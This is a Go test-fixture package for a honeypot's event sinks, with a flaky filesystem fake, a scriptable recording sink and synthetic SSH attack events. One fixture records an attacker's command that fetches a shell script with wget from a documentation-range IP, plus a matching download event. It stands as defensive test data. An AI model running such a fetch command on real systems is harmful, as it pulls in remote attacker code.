// Package sinktest provides fakes and fixtures for exercising sinks and the
// scheduler in tests.
package sinktest

import (
	"context"
	"errors"
	"fmt"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"github.com/spf13/afero"

	"github.com/telhawk-systems/telhawk-trap/trap/internal/models"
)

// ErrInjected is returned by injected failures.
var ErrInjected = errors.New("injected I/O failure")

// FlakyFs wraps an afero.Fs and fails the next N renames.
type FlakyFs struct {
	afero.Fs
	failRenames atomic.Int32
}

func NewFlakyFs(base afero.Fs) *FlakyFs {
	return &FlakyFs{Fs: base}
}

// FailRenames makes the next n Rename calls fail.
func (f *FlakyFs) FailRenames(n int) {
	f.failRenames.Store(int32(n))
}

func (f *FlakyFs) Rename(oldname, newname string) error {
	if f.failRenames.Add(-1) >= 0 {
		return &os.LinkError{Op: "rename", Old: oldname, New: newname, Err: ErrInjected}
	}
	f.failRenames.Store(0)
	return f.Fs.Rename(oldname, newname)
}

var fixtureTime = time.Date(2024, 6, 1, 12, 0, 0, 0, time.UTC)

// Events builds n classified events with IDs from..from+n-1 cycling through
// the common honeypot event types.
func Events(from uint64, n int) []*models.Event {
	out := make([]*models.Event, 0, n)
	for i := 0; i < n; i++ {
		id := from + uint64(i)
		out = append(out, Event(id))
	}
	return out
}

// Event builds one fixture event whose type depends on id.
func Event(id uint64) *models.Event {
	session := fmt.Sprintf("sess-%d", (id-1)/6+1)
	ev := &models.Event{
		ID:               id,
		Timestamp:        fixtureTime.Add(time.Duration(id) * time.Second),
		ReceivedAt:       fixtureTime.Add(time.Duration(id)*time.Second + time.Millisecond),
		SourceIdentifier: "203.0.113.50",
		SessionID:        session,
		TargetPort:       22,
		RiskScore:        35,
		ThreatLevel:      models.ThreatHigh,
	}
	switch id % 6 {
	case 1:
		ev.EventType = models.TypeConnection
		ev.Payload = models.Payload{models.KeySensor: "trap-01", models.KeySrcPort: 40000.0 + float64(id)}
	case 2:
		ev.EventType = models.TypeClientVersion
		ev.Payload = models.Payload{models.KeyVersion: "SSH-2.0-libssh_0.9.6"}
	case 3:
		ev.EventType = models.TypeLoginAttempt
		ev.Payload = models.Payload{models.KeyUsername: "root", models.KeyPassword: "it's-a-secret", models.KeySuccess: true}
	case 4:
		ev.EventType = models.TypeCommand
		ev.Payload = models.Payload{models.KeyInput: "wget http://198.51.100.9/x.sh"}
	case 5:
		ev.EventType = models.TypeDownload
		ev.Payload = models.Payload{models.KeyURL: "http://198.51.100.9/x.sh", models.KeyOutfile: "var/lib/dl/abc", models.KeyShasum: "abc123"}
	default:
		ev.EventType = models.TypeSessionClosed
		ev.Payload = models.Payload{models.KeyDuration: 12.5}
	}
	return ev
}

// Batch builds a batch of n fixture events starting at from.
func Batch(from uint64, n int) models.Batch {
	return models.NewBatch(Events(from, n))
}

// RecordingSink is an in-memory sink whose failures can be scripted.
type RecordingSink struct {
	name string

	mu        sync.Mutex
	failures  []error
	committed map[uint64]int
	batches   []models.Batch
	block     chan struct{}
	calls     atomic.Int32
}

func NewRecordingSink(name string) *RecordingSink {
	return &RecordingSink{name: name, committed: make(map[uint64]int)}
}

func (r *RecordingSink) Name() string { return r.name }
func (r *RecordingSink) Kind() string { return "recording" }

// FailNext queues errors returned by the next flushes, in order.
func (r *RecordingSink) FailNext(errs ...error) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.failures = append(r.failures, errs...)
}

// Block makes every flush wait until the returned function is called or the
// flush context ends.
func (r *RecordingSink) Block() (release func()) {
	ch := make(chan struct{})
	r.mu.Lock()
	r.block = ch
	r.mu.Unlock()
	var once sync.Once
	return func() { once.Do(func() { close(ch) }) }
}

func (r *RecordingSink) Flush(ctx context.Context, batch models.Batch) (uint64, error) {
	r.calls.Add(1)

	r.mu.Lock()
	block := r.block
	r.mu.Unlock()
	if block != nil {
		select {
		case <-block:
		case <-ctx.Done():
			return 0, ctx.Err()
		}
	}

	r.mu.Lock()
	defer r.mu.Unlock()
	r.batches = append(r.batches, batch)
	if len(r.failures) > 0 {
		err := r.failures[0]
		r.failures = r.failures[1:]
		return 0, err
	}
	for _, ev := range batch.Events {
		r.committed[ev.ID]++
	}
	return batch.ToID, nil
}

// Calls returns the number of Flush invocations.
func (r *RecordingSink) Calls() int { return int(r.calls.Load()) }

// Batches returns every batch handed to Flush, failed ones included.
func (r *RecordingSink) Batches() []models.Batch {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]models.Batch(nil), r.batches...)
}

// Committed returns how many times each ID was committed.
func (r *RecordingSink) Committed() map[uint64]int {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make(map[uint64]int, len(r.committed))
	for k, v := range r.committed {
		out[k] = v
	}
	return out
}
